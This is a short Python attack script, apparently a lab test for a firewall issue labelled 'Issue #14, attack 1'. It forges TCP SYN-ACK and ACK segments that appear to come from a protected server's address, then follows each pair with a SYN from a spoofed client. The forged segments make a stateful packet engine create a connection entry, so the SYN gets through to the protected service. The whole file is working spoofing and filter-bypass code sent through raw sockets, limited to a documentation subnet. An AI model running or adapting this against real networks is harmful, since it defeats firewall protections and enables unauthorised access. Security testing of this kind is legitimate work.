#!/usr/bin/env python3
"""Issue #14, attack 1: segments forged with a protected service's source address, sent from
the client side, each followed by the SYN they would let in.

For each of COUNT spoofed clients C:p (C in 203.0.113.0/24): a SYN-ACK S:port -> C:p with
ack = x+1, a plain ACK S:port -> C:p, then the SYN C:p -> S:port with sequence number x. An
engine that picks the forged segments up mid-stream finds an entry when the SYN arrives and
passes it to the server. IPv4 over an IPPROTO_RAW socket (the kernel fills in the IP checksum
and length); every packet goes to the default route, i.e. through the gateway."""
import argparse
import ipaddress
import random
import socket
import sys
import time

from rawpkt import ipv4, tcp_segment

SYN, ACK = 0x02, 0x10


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--server", required=True, help="the protected service's address (forged)")
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("--src-net", default="203.0.113.0/24")
    ap.add_argument("--count", type=int, default=300)
    ap.add_argument("--gap", type=float, default=0.002, help="seconds between two pairs")
    ap.add_argument("--seed", type=int, default=14)
    a = ap.parse_args()
    net = ipaddress.ip_network(a.src_net)
    if not net.subnet_of(ipaddress.ip_network("203.0.113.0/24")):
        sys.exit("spoofserver: spoofed clients must be in 203.0.113.0/24 (the lab's)")
    server = ipaddress.ip_address(a.server)
    random.seed(a.seed)
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    forged = syns = errors = 0
    hosts = list(net.hosts())
    for i in range(a.count):
        client = hosts[i % len(hosts)]
        cport = 20000 + i
        x = random.getrandbits(32)
        y = random.getrandbits(32)
        pkts = [
            (ipv4(server, client,
                  tcp_segment(server, client, a.port, cport, y, (x + 1) % 2**32, SYN | ACK)),
             client, "forged"),
            (ipv4(server, client,
                  tcp_segment(server, client, a.port, cport, (y + 1) % 2**32, (x + 1) % 2**32,
                              ACK)), client, "forged"),
            (ipv4(client, server, tcp_segment(client, server, cport, a.port, x, 0, SYN)), server,
             "syn"),
        ]
        for pkt, dst, kind in pkts:
            try:
                s.sendto(pkt, (str(dst), 0))
            except OSError:
                errors += 1
                continue
            if kind == "forged":
                forged += 1
            else:
                syns += 1
        time.sleep(a.gap)
    print("spoofserver: %d forged service segments, %d SYNs sent, %d send errors"
          % (forged, syns, errors), flush=True)
    return 0 if errors == 0 else 1


if __name__ == "__main__":
    sys.exit(main())
